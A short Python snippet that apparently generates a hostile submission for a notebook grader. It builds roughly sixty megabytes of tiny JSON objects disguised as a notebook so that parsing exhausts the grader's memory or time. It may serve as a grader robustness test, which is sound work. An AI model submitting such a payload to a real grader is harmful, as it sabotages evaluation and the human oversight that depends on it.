"""Hand in sixty megabytes of tiny JSON objects. Success: the grader needs gigabytes, or minutes, to read them."""


def make(notebook, folder):
    return b'{"cells": [], "more": [' + b'{"":1},' * (8 << 20) + b"1]}"
